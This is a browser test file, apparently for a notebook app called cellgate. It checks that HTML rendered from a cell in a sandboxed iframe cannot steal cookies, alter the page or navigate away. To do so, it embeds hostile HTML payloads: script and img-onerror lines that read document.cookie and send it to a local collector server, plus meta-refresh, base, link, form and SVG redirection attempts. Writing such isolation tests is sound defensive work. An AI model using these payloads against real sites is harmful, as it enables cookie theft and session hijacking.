/**
 * HTML a cell displays cannot reach the page that shows it: a cell's HTML
 * tries to read the cookie set on cellgate's origin (its own document.cookie
 * and parent.document.cookie), write it into its own DOM, send it away by
 * navigating the top window and by loading an image from another server. The
 * frame is sandboxed (opaque origin, no scripts) with a CSP: nothing of it
 * happens, and the page is unchanged. Nor can HTML navigate its own frame,
 * the page or a new window by any means that needs no script (meta refresh,
 * links, base href, forms, SVG links, a nested frame): the frame still shows
 * its own document once everything has settled, and ordinary HTML (tables,
 * styles, SVG) renders as before.
 *
 *   cellgate page --srcdoc--> <iframe sandbox=""> --x--> cookie, top window, collector
 *                             (markup made inert: no refresh, no links, no base)
 */
import { createServer, type Server } from 'node:http'
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { chromiumMissing, useBrowser } from '../support/browser.ts'
import { describeWith } from '../support/needs.ts'
import { freePort, startTestCluster, type TestCluster } from '../support/test-cluster.ts'

describeWith(chromiumMissing(), 'HTML output isolation in a browser', () => {
  const browser = useBrowser()
  let cluster: TestCluster
  let collector: Server
  let collectorUrl: string
  const collected: string[] = []

  beforeAll(async () => {
    cluster = await startTestCluster()
    // Where a successful exfiltration would land.
    const port = await freePort()
    collector = createServer((req, res) => {
      collected.push(req.url ?? '')
      res.end()
    })
    await new Promise<void>((resolve) => collector.listen(port, '127.0.0.1', resolve))
    collectorUrl = `http://127.0.0.1:${port}`
  })
  afterAll(async () => {
    await cluster?.close()
    // The browser, still open, may hold keep-alive connections.
    collector?.closeAllConnections()
    await new Promise((resolve) => collector?.close(resolve))
  })

  /** Runs `code` on the cell page (open already) and returns the frame of its HTML output, loaded. */
  async function htmlOutputOf(code: string) {
    const page = browser.page
    const editor = page.getByRole('textbox', { name: 'Cell code' })
    await editor.click()
    await page.keyboard.press('Control+A')
    await page.keyboard.insertText(code)
    await page.getByRole('button', { name: 'Run' }).click()
    await page.locator('[role=status] [data-status=done]').waitFor()
    const iframe = page.locator('iframe[title^="HTML output"]')
    await iframe.waitFor()
    const frame = (await (await iframe.elementHandle())!.contentFrame())!
    await frame.waitForLoadState('load')
    return frame
  }

  it("cannot read the page's cookies or change the page", async () => {
    const secret = `secret-${randomUUID()}`
    await browser.context.addCookies([{ name: 'cellgate_probe', value: secret, url: cluster.url }])
    const steal = [
      '<p id="probe">untouched</p>',
      '<script>',
      "  const probe = document.getElementById('probe')",
      "  try { probe.textContent = 'own:' + document.cookie } catch (e) { probe.textContent = 'own failed' }",
      "  try { probe.textContent += ' parent:' + parent.document.cookie } catch (e) {}",
      "  try { parent.document.title = 'owned' } catch (e) {}",
      `  top.location = '${collectorUrl}/navigate?c=' + encodeURIComponent(document.cookie)`,
      '</script>',
      `<img src="${collectorUrl}/image" alt="">`,
      `<img src="x" onerror="fetch('${collectorUrl}/onerror?c=' + document.cookie)">`,
    ].join('\n')
    const code = `display.html(${JSON.stringify(steal)})\n'shown'`

    const page = browser.page
    await page.goto(cluster.url)
    // The cookie is there, and the page's own scripts can read it: what follows is not vacuous.
    expect(await page.evaluate(() => document.cookie)).toContain(secret)
    const output = await htmlOutputOf(code)
    const cellUrl = page.url()
    const title = await page.title()
    expect(await page.locator('iframe[title^="HTML output"]').getAttribute('sandbox')).toBe('')

    // Its scripts never ran: the probe still says what the markup says.
    expect(await output.locator('#probe').textContent()).toBe('untouched')
    // Its origin is opaque: even code run inside it cannot read cookies.
    const fromInside = await output.evaluate(() => {
      try {
        return document.cookie
      } catch (e) {
        return `blocked: ${(e as Error).name}`
      }
    })
    expect(fromInside).toBe('blocked: SecurityError')

    expect(page.url()).toBe(cellUrl)
    expect(await page.title()).toBe(title)
    expect(await page.locator('body').innerText()).not.toContain(secret)
    expect(collected).toEqual([])
  })

  it('cannot navigate its frame, the page or another window, and ordinary HTML still renders', async () => {
    const hostile = [
      '<p id="marker">its own content</p>',
      '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:1/">',
      `<meta http-equiv="Refresh" content="0; URL='${collectorUrl}/refresh'">`,
      `<noscript><meta http-equiv="refresh" content="0;url=${collectorUrl}/noscript"></noscript>`,
      `<svg><foreignObject><meta http-equiv="refresh" content="0;url=${collectorUrl}/foreign"></foreignObject></svg>`,
      `<base href="${collectorUrl}/base/">`,
      '<a id="relative" href="relative">relative link</a>',
      `<a id="self" href="${collectorUrl}/self">link</a>`,
      `<a id="top" href="${collectorUrl}/top" target="_top">top</a>`,
      `<a id="blank" href="${collectorUrl}/blank" target="_blank">new window</a>`,
      `<form action="${collectorUrl}/form"><button id="submit">submit</button></form>`,
      `<svg width="40" height="40"><a href="${collectorUrl}/svg"><rect id="svglink" width="40" height="40"/></a></svg>`,
      `<math><mi id="mathlink" href="${collectorUrl}/math">x</mi></math>`,
      `<div><template shadowrootmode="open"><a id="shadowlink" href="${collectorUrl}/shadow">in a shadow root</a></template></div>`,
      `<script>location = '${collectorUrl}/script'</script>`,
      `<img src="x" onerror="location = '${collectorUrl}/onerror'">`,
      `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${collectorUrl}/nested'>"></iframe>`,
      // Ordinary HTML, which must still render.
      '<style>.t td { color: rgb(0, 128, 0) }</style><table class="t"><tr><th>n</th></tr><tr><td id="cell">42</td></tr></table>',
      '<svg width="10" height="10"><circle id="dot" cx="5" cy="5" r="4" fill="red"/></svg>',
    ].join('\n')
    const page = browser.page
    const opened: string[] = []
    browser.context.on('page', (p) => opened.push(p.url()))
    const navigations: string[] = []
    // The page's own moves are checked by its URL below; a frame's only place is its srcdoc.
    page.on('framenavigated', (f) => f !== page.mainFrame() && navigations.push(f.url()))

    await page.goto(cluster.url)
    const frame = await htmlOutputOf(`display.html(${JSON.stringify(hostile)})\n'shown'`)
    const cellUrl = page.url()
    // Every link a reader could click: each click waits for any navigation it starts.
    for (const id of ['relative', 'self', 'top', 'blank', 'submit', 'svglink', 'mathlink', 'shadowlink']) await frame.locator(`#${id}`).click()
    // Settled: no request in flight for half a second, every timer the markup could set having fired.
    await page.waitForLoadState('networkidle')
    await frame.waitForLoadState('networkidle')

    expect(frame.url()).toBe('about:srcdoc')
    expect(await frame.locator('#marker').textContent()).toBe('its own content')
    expect(page.url()).toBe(cellUrl)
    expect(opened).toEqual([])
    // '' and about:blank are a nested frame's own first document (Chromium reports it now and then), not a destination.
    expect(navigations.filter((url) => !['about:srcdoc', 'about:blank', ''].includes(url))).toEqual([])
    expect(collected).toEqual([])
    // Chromium itself refuses a refresh in a frame sandboxed without scripts (not every browser does): the frame's
    // document holds no refresh for any browser to act on, and no link, base or area.
    expect(await frame.evaluate(() => [...document.querySelectorAll('meta')].map((m) => m.getAttribute('http-equiv')))).toEqual([null, 'Content-Security-Policy'])
    expect(await frame.evaluate(() => document.querySelectorAll('a, area, base, [href]:not(use)').length)).toBe(0)
    // What the links said is still there, as text.
    expect(await frame.locator('body').innerText()).toContain('relative link')
    expect(await frame.locator('#cell').evaluate((td) => getComputedStyle(td).color)).toBe('rgb(0, 128, 0)')
    expect(await frame.locator('#dot').evaluate((c) => c.getBoundingClientRect().width)).toBe(8)
  })
})
